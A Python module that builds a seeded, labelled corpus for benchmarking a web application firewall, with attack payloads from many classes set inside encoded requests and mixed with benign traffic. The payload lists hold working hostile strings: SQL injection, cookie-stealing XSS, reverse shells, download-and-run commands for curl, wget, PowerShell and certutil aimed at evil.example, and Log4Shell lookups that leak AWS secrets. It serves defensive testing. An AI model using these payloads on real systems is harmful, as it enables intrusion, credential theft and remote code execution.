"""bench/waf.py's labelled corpus: attacks of every class the managed rule groups cover, placed in
different parts of a request and encoded in different ways, and realistic benign traffic with
its hard cases kept apart. Deterministic: the same seed gives the same requests.

Attack payloads come from two sources, kept apart in the results:
* `own`: written for this benchmark (below), one list per class;
* `fray`: the payload lists of the `fray` package (MIT; a dev dependency, read from the
  installed package and never copied into the tree), for the classes it has. Its lists carry
  some entries that are not payloads at all (fragments of the Python scripts that produced
  them); only single-line entries of at most 400 characters are kept, and duplicates dropped.

Each payload yields one request (four for own payloads): a placement (query, form body, JSON
body, cookie, header, path, or the URI itself for WordPress probes) and an encoding (plain, URL
encoding of every special character, double URL encoding, IIS %u encoding, JSON \\u escapes,
random case, SQL comments for spaces, whitespace tricks) drawn from those that keep the attack
working where it lands: random case is not applied to Unix commands or Unix paths, for example.
"""

from __future__ import annotations

import base64
import importlib.util
import json
import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, quote_plus

from mamori.perimeter.waf.request import Request

BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
)
HOST = "shop.example.com"


@dataclass(frozen=True, slots=True)
class Sample:
    """One labelled request: `kind` is attack, benign or hard (benign but hard to tell)."""

    request: Request
    kind: str
    label: str  # the attack class, or the kind of benign traffic
    source: str  # own, fray, or generated (benign)
    placement: str
    encoding: str


# -- attack payloads written for this benchmark ------------------------------------------------

OWN: dict[str, list[str]] = {
    "sqli": [
        "1' OR '1'='1",
        "1 OR 1=1",
        "admin'--",
        "' OR 'a'='a' -- ",
        "1' UNION SELECT username, password FROM users--",
        "1 UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables",
        "1; DROP TABLE orders",
        "1' AND SLEEP(5)-- -",
        "1'; WAITFOR DELAY '0:0:5'--",
        "1 AND (SELECT 1 FROM pg_sleep(5))",
        "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
        "1' AND 1=CONVERT(int,(SELECT @@version))--",
        "' OR 1=1 LIMIT 1 INTO OUTFILE '/var/www/s.php'-- ",
        "1' ORDER BY 10-- ",
        "x' AND ascii(substring((select password from users limit 1),1,1))>64-- ",
        "') OR ('x'='x",
        "1 AND char(65)||char(66)='AB'",
        "1'; EXEC xp_cmdshell('whoami')--",
        "1 UNION SELECT load_file('/etc/passwd')",
        "' HAVING 1=1 --",
    ],
    "xss": [
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=fetch('//evil.example/'+document.cookie)>",
        '"><script src=//evil.example/x.js></script>',
        "javascript:alert(document.domain)",
        "<iframe src=\"javascript:alert('x')\"></iframe>",
        "<body onload=alert(1)>",
        "'-alert(1)-'",
        '<a href="javascript:void(0)" onmouseover="alert(1)">x</a>',
        "<details open ontoggle=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
        "<input autofocus onfocus=alert(1)>",
        '<div style="background:url(javascript:alert(1))">',
        "</title><script>eval(atob('YWxlcnQoMSk='))</script>",
        '<video><source onerror="alert(1)">',
    ],
    "lfi": [
        "../../../../etc/passwd",
        "....//....//....//etc/passwd",
        "..\\..\\..\\..\\windows\\win.ini",
        "/etc/shadow",
        "../../../../proc/self/environ",
        "..%2f..%2f..%2fetc%2fpasswd",
        "../../../../etc/passwd%00.jpg",
        "/var/www/../../etc/hosts",
        "....\\\\....\\\\boot.ini",
        "../../../../../root/.ssh/id_rsa",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
    ],
    "rfi": [
        "http://evil.example/shell.txt?",
        "https://203.0.113.9/r57.txt?",
        "ftp://evil.example/inc.php",
        "http://198.51.100.66/c99.php%00",
        "\\\\evil.example\\share\\x.php",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
        "expect://id",
        "http://evil.example/payload.txt??",
    ],
    "cmdi_unix": [
        "; cat /etc/passwd",
        "| id",
        "$(whoami)",
        "`uname -a`",
        "&& wget http://evil.example/x -O /tmp/x && sh /tmp/x",
        "; curl -s http://evil.example/s.sh | bash",
        "|| nc -e /bin/sh 203.0.113.5 4444",
        "; bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        ";${IFS}cat${IFS}/etc/passwd",
        "; python3 -c 'import os;os.system(\"id\")'",
        "\n/bin/ls -la",
        "a;ping -c 3 127.0.0.1",
        "; echo cHdk | base64 -d | sh",
        "$(rm -rf /tmp/x)",
    ],
    "cmdi_windows": [
        "& dir c:\\",
        "| type C:\\Windows\\win.ini",
        "&& net user hacker P@ss /add",
        "; cmd.exe /c whoami",
        "| powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
        "& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
        "|| ipconfig /all",
        "& c^m^d /c who^ami",
        "| powershell -enc SQBFAFgA",
        "& reg query HKLM\\SOFTWARE",
        "; Invoke-WebRequest -Uri http://evil.example/p.ps1 -OutFile p.ps1",
        "& systeminfo",
    ],
    "php": [
        "<?php system($_GET['c']); ?>",
        "<?= `id` ?>",
        "<?php eval(base64_decode('c3lzdGVtKCdpZCcpOw==')); ?>",
        "phpinfo()",
        "assert($_POST['x'])",
        "file_put_contents('s.php','<?php passthru($_GET[1]);')",
        'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
        "preg_replace('/.*/e','system(\"id\")','')",
        "$_SERVER['HTTP_X']",
        "call_user_func('system','id')",
        "shell_exec('cat /etc/passwd')",
        "php://input",
    ],
    "log4shell": [
        "${jndi:ldap://evil.example/a}",
        "${jndi:rmi://203.0.113.7:1099/Exploit}",
        "${jndi:dns://x.evil.example}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
        "${jndi:ldaps://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
        "${${upper:j}ndi:ldap://evil.example/a}",
        "${jndi:iiop://evil.example/a}",
    ],
    "java_deser": [
        # Base64 of Java serialization streams naming well-known gadget classes.
        base64.b64encode(
            b"\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer"
        ).decode(),
        base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet\xbaD\x85\x95").decode(),
        base64.b64encode(
            b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandler"
        ).decode(),
        "T(java.lang.Runtime).getRuntime().exec('id')",
        'java.lang.Runtime.getRuntime().exec("touch /tmp/x")',
        "new java.lang.ProcessBuilder({'/bin/sh','-c','id'}).start()",
        '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a",'
        '"autoCommit":true}',
        '<java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" '
        'length="1"><void index="0"><string>id</string></void></array></object></java>',
        "aced0005737200116a6176612e7574696c2e48617368536574ba44859596b8b734",
    ],
    "ssrf_metadata": [
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        "http://169.254.169.254/latest/api/token",
        "http://2852039166/latest/meta-data/",
        "http://0xa9fea9fe/latest/user-data",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
        "http://169.254.169.254.nip.io/latest/meta-data/",
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        "http://100.100.100.200/latest/meta-data/",
        "http://0251.0376.0251.0376/latest/meta-data/",
        "http://169.254.170.2/v2/credentials/",
    ],
    "scanner_ua": [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
        "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        "gobuster/3.6",
        "Fuzz Faster U Fool v2.1.0",
        "Wfuzz/3.1.0",
        "Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Netsparker",
        "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
        "Arachni/v1.6.1",
        "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
        "commix/v3.8",
        "ZmEu",
        "Morfeus Fucking Scanner",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/124.0 Safari/537.36 Hello from Burp Collaborator",
        "Mozilla/5.0 (compatible; Nessus; +https://www.tenable.com)",
        "Jorgee",
        "Mozilla/5.0 (Hydra)",
    ],
    "wordpress": [
        "/wp-config.php.bak",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php",
        "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php",
        "/wp-content/debug.log",
        "/xmlrpc.php?rsd",
        "/wp-admin/install.php?step=2",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        "/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://evil.example/x.txt",
        "/?rest_route=/wp/v2/users",
        "/wp-includes/wlwmanifest.xml",
        "/wp-admin/setup-config.php",
        "/wp-content/uploads/wpo_wcpdf/x.php",
    ],
}

# Where each class is placed, and which encodings keep it working there.
URLISH = ("query", "form", "cookie", "path")
TEXT_TRICKS: dict[str, tuple[str, ...]] = {
    "sqli": ("case", "comments", "whitespace"),
    "xss": ("case", "whitespace"),
    "lfi": (),
    "rfi": ("case",),
    "cmdi_unix": ("whitespace",),
    "cmdi_windows": ("case",),
    "php": ("case", "whitespace"),
    "log4shell": ("case",),
    "java_deser": (),
    "ssrf_metadata": (),
    "scanner_ua": (),
    "wordpress": (),
}
PLACEMENTS: dict[str, tuple[str, ...]] = {
    "sqli": ("query", "form", "json", "cookie", "header"),
    "xss": ("query", "form", "json", "cookie", "header", "path"),
    "lfi": ("query", "form", "json", "cookie", "path"),
    "rfi": ("query", "form", "json"),
    "cmdi_unix": ("query", "form", "json", "cookie", "header"),
    "cmdi_windows": ("query", "form", "json", "cookie"),
    "php": ("query", "form", "json", "header"),
    "log4shell": ("header", "query", "form", "json", "path"),
    "java_deser": ("raw_body", "header", "query", "form"),
    "ssrf_metadata": ("query", "form", "json", "cookie"),
    "scanner_ua": ("user_agent",),
    "wordpress": ("uri",),
}


def _fray_root() -> Path | None:
    spec = importlib.util.find_spec("fray")
    if spec is None or not spec.submodule_search_locations:
        return None
    return Path(next(iter(spec.submodule_search_locations))) / "payloads"


def _fray_entries(root: Path, pattern: str) -> Iterator[dict[str, object]]:
    for path in sorted(root.glob(pattern)):
        try:
            document = json.loads(path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            continue
        items = document.get("payloads", []) if isinstance(document, dict) else document
        yield from (item for item in items if isinstance(item, dict))


_WINDOWS_MARKERS = (
    "cmd",
    "powershell",
    "c:\\",
    "%windir%",
    "type ",
    "dir ",
    "net user",
    "certutil",
)


def fray_payloads() -> dict[str, list[str]]:
    """Payloads of the installed `fray` package by class ({} when it is not installed)."""
    root = _fray_root()
    if root is None:
        return {}
    out: dict[str, list[str]] = {}

    def add(label: str, payload: object) -> None:
        if isinstance(payload, str) and 0 < len(payload) <= 400 and "\n" not in payload:
            bucket = out.setdefault(label, [])
            if payload not in bucket:
                bucket.append(payload)

    for pattern, label in (
        ("sqli/*.json", "sqli"),
        ("xss/*.json", "xss"),
        ("path_traversal/*.json", "lfi"),
        ("ssrf_cloud_metadata/cloud_metadata_ssrf.json", "ssrf_metadata"),
        ("wordpress/*.json", "wordpress"),
    ):
        for item in _fray_entries(root, pattern):
            add(label, item.get("payload"))
    for item in _fray_entries(root, "command_injection/*.json"):
        text = str(item.get("payload", ""))
        windows = any(m in text.lower() for m in _WINDOWS_MARKERS)
        add("cmdi_windows" if windows else "cmdi_unix", text)
    for item in _fray_entries(root, "deserialization/deser_java.json"):
        text = str(item.get("payload", ""))
        if item.get("type") == "java" or text.startswith(("rO0AB", "ACED", "aced")):
            add("java_deser", text)
    for item in _fray_entries(root, "web_shells/*.json"):
        if str(item.get("technique", "")).startswith("php"):
            add("php", item.get("payload"))
    return out


# -- encodings -------------------------------------------------------------------------------


def _url_all(text: str) -> str:
    return quote(text, safe="")


def _iis_unicode(text: str) -> str:
    return "".join(c if c.isalnum() else f"%u{ord(c):04x}" for c in text)


def _json_escaped(text: str) -> str:
    return "".join(c if c.isalnum() else f"\\u{ord(c):04x}" for c in text)


def _random_case(text: str, rng: random.Random) -> str:
    return "".join(c.upper() if rng.random() < 0.5 else c.lower() for c in text)


def _whitespace(text: str, rng: random.Random, label: str) -> str:
    if label == "cmdi_unix":
        return text.replace(" ", "${IFS}")
    return "".join(rng.choice(("\t", "\n", "  ", "\x0b")) if c == " " else c for c in text)


def encodings(label: str, placement: str) -> tuple[str, ...]:
    """The encodings that keep a `label` attack working in `placement`."""
    wire: tuple[str, ...] = ()
    if placement in URLISH or placement == "uri":
        wire = ("url", "double_url")
        if label in ("xss", "lfi", "sqli"):
            wire += ("iis_unicode",)
    elif placement == "json":
        wire = ("json_unicode",)
    if placement in ("user_agent", "raw_body", "uri") or label in ("scanner_ua", "wordpress"):
        wire = ()
    return ("plain", *TEXT_TRICKS[label], *wire)


def encode(text: str, encoding: str, rng: random.Random, label: str) -> tuple[str, bool]:
    """The payload after `encoding`, and whether it is already encoded for the wire."""
    if encoding == "case":
        return _random_case(text, rng), False
    if encoding == "comments":
        return text.replace(" ", "/**/"), False
    if encoding == "whitespace":
        return _whitespace(text, rng, label), False
    if encoding == "url":
        return _url_all(text), True
    if encoding == "double_url":
        return _url_all(_url_all(text)), True
    if encoding == "iis_unicode":
        return _iis_unicode(text), True
    if encoding == "json_unicode":
        return _json_escaped(text), True
    return text, False


# -- requests ----------------------------------------------------------------------------------


def _browser_headers(
    rng: random.Random, accept: str = "text/html,*/*;q=0.8"
) -> list[tuple[str, str]]:
    return [
        ("Host", HOST),
        ("User-Agent", rng.choice(BROWSERS)),
        ("Accept", accept),
        ("Accept-Language", rng.choice(("en-GB,en;q=0.9", "en-US,en;q=0.8", "fr-FR,fr;q=0.9"))),
        ("Accept-Encoding", "gzip, deflate, br"),
    ]


def _with_body(
    method: str, uri: str, headers: list[tuple[str, str]], body: str, ctype: str, ip: str
) -> Request:
    data = body.encode("utf-8", "surrogatepass")
    sent = [*headers, ("Content-Type", ctype), ("Content-Length", str(len(data)))]
    return Request(method, uri, tuple(sent), data, ip)


def _client_ip(rng: random.Random) -> str:
    return f"198.51.100.{rng.randrange(1, 255)}"


def _json_value(text: str, wire: bool) -> str:
    """A JSON string literal holding `text` (already escaped when `wire`)."""
    if wire:
        return '"' + text.replace('"', '\\"') + '"'
    return json.dumps(text, ensure_ascii=False)


def place(payload: str, placement: str, encoding: str, label: str, rng: random.Random) -> Request:
    """A request carrying `payload` in `placement`, encoded as `encoding`."""
    text, wire = encode(payload, encoding, rng, label)
    headers = _browser_headers(rng)
    ip = _client_ip(rng)
    field = rng.choice(("q", "search", "id", "file", "url", "name", "page"))
    urlish = text if wire else quote(text, safe="/:'()!*,;$@")
    if placement == "query":
        return Request("GET", f"/products?{field}={urlish}&sort=price", tuple(headers), b"", ip)
    if placement == "form":
        value = text if wire else quote_plus(text)
        body = f"name=Alice&{field}={value}&submit=Send"
        return _with_body(
            "POST", "/contact", headers, body, "application/x-www-form-urlencoded", ip
        )
    if placement == "json":
        body = '{"user": 1042, "' + field + '": ' + _json_value(text, wire) + ', "tags": ["a"]}'
        return _with_body("POST", "/api/v1/orders", headers, body, "application/json", ip)
    if placement == "cookie":
        value = text if wire else quote(text, safe="/:'()!*$@<>=\"{}")
        headers.append(("Cookie", f"session=7f3a9c2e41d8; {field}={value}"))
        return Request("GET", "/account", tuple(headers), b"", ip)
    if placement == "header":
        name = rng.choice(("User-Agent", "Referer", "X-Api-Version"))
        if name == "User-Agent":
            headers[1] = ("User-Agent", headers[1][1] + " " + text)
        else:
            headers.append((name, text))
        return Request("GET", "/", tuple(headers), b"", ip)
    if placement == "path":
        segment = text if wire else quote(text, safe="/:'()!*,;$@")
        return Request("GET", f"/static/{segment}", tuple(headers), b"", ip)
    if placement == "user_agent":
        headers[1] = ("User-Agent", text)
        return Request("GET", "/", tuple(headers), b"", ip)
    if placement == "raw_body":
        raw = _java_stream(text)
        sent = [
            *headers,
            ("Content-Type", "application/x-java-serialized-object"),
            ("Content-Length", str(len(raw))),
        ]
        return Request("POST", "/invoker/JMXInvokerServlet", tuple(sent), raw, ip)
    if placement == "uri":
        if text.startswith("<?xml"):
            return _with_body("POST", "/xmlrpc.php", headers, text, "text/xml", ip)
        uri = text if text.startswith("/") else "/" + quote(text, safe="/?=&:.")
        return Request("GET", uri, tuple(headers), b"", ip)
    raise ValueError(f"unknown placement {placement!r}")


def _java_stream(text: str) -> bytes:
    """The bytes a Java deserialisation payload sends as a body (base64 and hex decoded)."""
    try:
        if text.startswith("rO0AB"):
            return base64.b64decode(text + "=" * (-len(text) % 4))
        if text.lower().startswith("aced"):
            return bytes.fromhex(text[: len(text) // 2 * 2])
    except ValueError:
        pass
    return text.encode()


def attacks(rng: random.Random) -> Iterator[Sample]:
    """Every own payload four times and every fray payload once, each placed and encoded at
    random."""
    sources: list[tuple[str, dict[str, list[str]], int]] = [("own", OWN, 4)]
    sources.append(("fray", fray_payloads(), 1))
    for source, by_class, copies in sources:
        for label, payloads in by_class.items():
            for payload in payloads:
                for _ in range(copies):
                    placement = rng.choice(PLACEMENTS[label])
                    encoding = rng.choice(encodings(label, placement))
                    request = place(payload, placement, encoding, label, rng)
                    yield Sample(request, "attack", label, source, placement, encoding)


# -- benign traffic ------------------------------------------------------------------------------

WORDS = (
    "red wool scarf", "running shoes size 42", "usb-c charger", "garden hose 25m", "oak desk",
    "winter jacket", "noise cancelling headphones", "coffee grinder", "yoga mat", "led bulb e27",
    "children's books", "cast iron pan", "bike helmet", "phone case", "desk lamp",
)  # fmt: skip
NAMES = ("Alice Martin", "Bob O'Neil", "Chloé Durand", "D'Arcy Smith", "Émile Zola", "Li Wei")


def _browse(rng: random.Random) -> Request:
    headers = _browser_headers(rng)
    headers.append(("Cookie", f"session={rng.getrandbits(64):016x}; consent=yes; theme=dark"))
    headers.append(("Referer", f"https://{HOST}/products?page={rng.randrange(1, 9)}"))
    uri = rng.choice(
        (
            f"/products?q={quote_plus(rng.choice(WORDS))}&page={rng.randrange(1, 20)}",
            f"/products/{rng.randrange(1, 99999)}",
            f"/category/home-garden?sort=price_asc&min={rng.randrange(5, 50)}&max=200",
            "/",
            f"/static/js/app.{rng.getrandbits(32):08x}.js",
            f"/images/products/{rng.randrange(1, 9999)}/large.webp",
            f"/blog/2024/05/{rng.choice(('spring-sale', 'how-to-choose-a-bike', 'our-story'))}",
            f"/search?q={quote_plus(rng.choice(NAMES))}&lang=en",
            "/cart?utm_source=newsletter&utm_medium=email&utm_campaign=may_2024",
        )
    )
    return Request("GET", uri, tuple(headers), b"", _client_ip(rng))


def _json_api(rng: random.Random) -> Request:
    headers = _browser_headers(rng, "application/json")
    headers.append(
        ("Authorization", f"Bearer {base64.urlsafe_b64encode(rng.randbytes(24)).decode()}")
    )
    headers.append(("X-Request-Id", f"{rng.getrandbits(128):032x}"))
    method = rng.choice(("GET", "POST", "PUT", "PATCH", "DELETE"))
    order = rng.randrange(1000, 99999)
    if method in ("GET", "DELETE"):
        uri = rng.choice(
            (f"/api/v1/orders/{order}", f"/api/v1/orders?status=open&limit=50&offset={order % 7}")
        )
        return Request(method, uri, tuple(headers), b"", _client_ip(rng))
    document = {
        "customer": {"name": rng.choice(NAMES), "email": f"user{order}@example.org"},
        "items": [
            {"sku": f"SKU-{rng.randrange(10000, 99999)}", "qty": rng.randrange(1, 4),
             "title": rng.choice(WORDS), "price": round(rng.uniform(2, 300), 2)}
            for _ in range(rng.randrange(1, 5))
        ],
        "shipping": {"street": f"{rng.randrange(1, 200)} High Street", "city": "Leeds",
                     "postcode": "LS1 4AP", "notes": "Leave at the door, please"},
        "currency": "GBP", "coupon": None, "gift": rng.random() < 0.2,
    }  # fmt: skip
    body = json.dumps(document, ensure_ascii=False)
    return _with_body(method, f"/api/v1/orders/{order}" if method != "POST" else "/api/v1/orders",
                      headers, body, "application/json", _client_ip(rng))  # fmt: skip


def _form(rng: random.Random) -> Request:
    fields = {
        "name": rng.choice(NAMES),
        "email": f"{rng.choice(('alice', 'bob', 'chloe'))}.{rng.randrange(99)}@example.org",
        "subject": rng.choice(("Delivery question", "Return my order", "Invoice copy")),
        "message": rng.choice((
            "Hello, my parcel hasn't arrived yet. Order #48213, could you check?",
            "I'd like to return the shoes (size 42), they're too small. Thanks!",
            "Can I get a VAT invoice for order 5521? Company: Smith & Sons Ltd.",
            "Great service - 5/5 would buy again :)",
        )),
        "newsletter": rng.choice(("on", "off")),
    }  # fmt: skip
    body = "&".join(f"{k}={quote_plus(v)}" for k, v in fields.items())
    return _with_body("POST", "/contact", _browser_headers(rng), body,
                      "application/x-www-form-urlencoded", _client_ip(rng))  # fmt: skip


def _graphql(rng: random.Random) -> Request:
    query = rng.choice((
        "query Product($id: ID!) { product(id: $id) { id name price { amount currency } "
        "reviews(first: 5) { edges { node { rating body author { name } } } } } }",
        "mutation AddToCart($input: CartItemInput!) { addToCart(input: $input) { cart { id "
        "totalItems } errors { field message } } }",
        "query Search($q: String!, $after: String) { search(query: $q, first: 20, after: $after) "
        "{ pageInfo { hasNextPage endCursor } nodes { ... on Product { id name } } } }",
    ))  # fmt: skip
    variables = {"id": str(rng.randrange(1, 9999)), "q": rng.choice(WORDS),
                 "input": {"sku": f"SKU-{rng.randrange(10000, 99999)}", "qty": 1}}  # fmt: skip
    body = json.dumps({"query": query, "variables": variables, "operationName": None})
    return _with_body("POST", "/graphql", _browser_headers(rng, "application/json"), body,
                      "application/json", _client_ip(rng))  # fmt: skip


BENIGN: dict[str, Callable[[random.Random], Request]] = {
    "browsing": _browse, "json_api": _json_api, "form_post": _form, "graphql": _graphql,
}  # fmt: skip

# -- hard benign cases: legitimate text that looks like an attack to a naive filter ------------

PROSE_SQL = (
    "Please select the colour you want and drop me a line if the union of both sizes fits.",
    "I ordered from your shop and the update said 'delete' next to my item - is that right?",
    "Where can I insert a new address? The form says select one from the list or create it.",
    "My wife and I (union members) would like to join the table tennis club from next week.",
    "Don't drop the box: it's fragile. Or leave it with the neighbour, if 1 person is home.",
    "We'll execute the plan on Friday, then exec team reviews where the shipment goes.",
    "Values between 1 and 10; order by price, then select the cheapest -- that's my tip.",
    "It's 5 o'clock and the sleep mode kicks in after a wait, or a delay of 5 minutes.",
)
CODE = (
    "To count orders per day I use: SELECT date(created), count(*) FROM orders GROUP BY 1;",
    "In Python: `for row in rows: print(row['id'])` and then `items = [x for x in data if x]`",
    "My bash alias: alias ll='ls -la' and export PATH=$HOME/bin:$PATH in .bashrc",
    "In JS, use document.querySelector('#cart').addEventListener('click', onClick)",
    "The regex ^[a-z0-9_-]{3,16}$ validates usernames; in Java use Pattern.compile(...)",
    "Run `docker compose up -d` then open http://localhost:8080/admin to configure it.",
    "if (a < b && b > c) { return a; } // compare the three prices",
    "Use git log --oneline | head -n 5 to see the last commits.",
)
RICH_HTML = (
    "<p>Loved the <strong>scarf</strong>! Colour is <em>exactly</em> as shown.</p>",
    "<ul><li>Fast delivery</li><li>Great <a href=\"https://shop.example.com/p/12\">price</a></li></ul>",
    "<p>Size guide:</p><table><tr><td>S</td><td>36</td></tr><tr><td>M</td><td>38</td></tr></table>",
    "<h2>Review</h2><p>4/5 &mdash; would buy again.<br>Pros: warm; cons: itchy</p>",
    "<blockquote>Best pan I've owned</blockquote>"
    "<p><img src=\"/uploads/pan.jpg\" alt=\"my pan\"></p>",
)  # fmt: skip
MARKDOWN = (
    "## Setup\n\n1. Unpack the box\n2. Screw the legs in (`M6` bolts)\n\n"
    "> Tip: use the **allen key**",
    "Price: ~~£49~~ **£39**! See [the offer](https://shop.example.com/offers?id=12&ref=md)",
    "| size | cm |\n|---|---|\n| S | 36 |\n| M | 38 |\n\n*Measured flat*",
    "```\nnpm install --save my-lib\n```\nthen `import { x } from 'my-lib'`",
)  # fmt: skip
DOTTED_PATHS = (
    "/downloads/manual.v2.1.pdf", "/static/fonts/inter.var.woff2", "/docs/api/v1.2/index.html",
    "/files/report.2024.q1.final.xlsx", "/.well-known/security.txt",
    "/.well-known/openid-configuration",
    "/assets/app.min.js.map", "/products/sony-a7.iii/reviews", "/users/jean.luc.picard/profile",
)  # fmt: skip


def _hard(label: str, text: str, rng: random.Random) -> Request:
    if label == "dotted_paths":
        return _browse_path(text, rng)
    if rng.random() < 0.5:
        body = json.dumps({"product": rng.randrange(1, 9999), "rating": 4, "body": text})
        return _with_body("POST", "/api/v1/reviews", _browser_headers(rng, "application/json"),
                          body, "application/json", _client_ip(rng))  # fmt: skip
    body = f"title=My+review&body={quote_plus(text)}&rating=5"
    return _with_body("POST", "/reviews", _browser_headers(rng), body,
                      "application/x-www-form-urlencoded", _client_ip(rng))  # fmt: skip


def _browse_path(path: str, rng: random.Random) -> Request:
    return Request("GET", path, tuple(_browser_headers(rng)), b"", _client_ip(rng))


HARD: dict[str, tuple[str, ...]] = {
    "prose_sql": PROSE_SQL, "code": CODE, "rich_html": RICH_HTML, "markdown": MARKDOWN,
    "dotted_paths": DOTTED_PATHS,
}  # fmt: skip


def benign(rng: random.Random, count: int) -> Iterator[Sample]:
    kinds = list(BENIGN)
    for i in range(count):
        label = kinds[i % len(kinds)]
        yield Sample(BENIGN[label](rng), "benign", label, "generated", "-", "-")


def hard(rng: random.Random, copies: int) -> Iterator[Sample]:
    """Each hard text `copies` times, in a JSON or form body (paths as the URI)."""
    for label, texts in HARD.items():
        for text in texts:
            for _ in range(copies):
                yield Sample(_hard(label, text, rng), "hard", label, "own", "-", "-")


def corpus(seed: int = 7, benign_count: int = 4000, hard_copies: int = 10) -> list[Sample]:
    """The whole labelled corpus, attacks first, for a seed."""
    rng = random.Random(seed)
    return [*attacks(rng), *benign(rng, benign_count), *hard(rng, hard_copies)]
